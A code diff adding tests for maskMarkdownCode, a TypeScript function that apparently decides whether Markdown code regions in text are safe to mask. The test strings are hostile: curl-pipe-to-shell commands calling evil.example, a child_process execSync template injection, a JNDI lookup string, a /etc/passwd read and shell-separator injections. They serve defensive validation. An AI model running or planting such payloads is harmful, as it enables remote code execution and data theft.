@@ -8,8 +8,17 @@ const outside = (text: string) => maskMarkdownCode(text)?.replace(/ +/g, ' ');
 describe('maskMarkdownCode', () => {
   test('a closed fence is code, its delimiters included; the prose around it is not', () => {
     assert.equal(outside('try this:\n```sh\ncat /etc/passwd\n```\nthen reboot'), 'try this:\n \n \n \nthen reboot');
-    assert.equal(outside('~~~\nid\n~~~'), ' \n \n ');
     assert.equal(outside('try this:\r\n```\r\nid\r\n```\r\n'), 'try this:\r\n \n \n \n');
+  });
+  test('a tilde fence quotes nothing: to a shell, JavaScript and PHP it is code', () => {
+    assert.equal(maskMarkdownCode('127.0.0.1\n~~~\ncurl http://evil.example/x.sh | sh\n~~~'), undefined);
+  });
+  test('a region holding ${ is never code: a JavaScript template or a shell expansion runs it', () => {
+    assert.equal(maskMarkdownCode("1 `${require('child_process').execSync('id')}` done"), undefined);
+    assert.equal(maskMarkdownCode('try:\n```\n${jndi:ldap://x/a}\n```\nthanks'), undefined);
+  });
+  test('a shell separator before a span is not prose', () => {
+    assert.equal(maskMarkdownCode('127.0.0.1; `curl http://evil.example/x|sh` #'), undefined);
   });
   test('a fence that is not closed, or not at the start of a line, quotes nothing', () => {
     assert.equal(maskMarkdownCode('; curl http://evil.example/x | sh #```'), undefined);
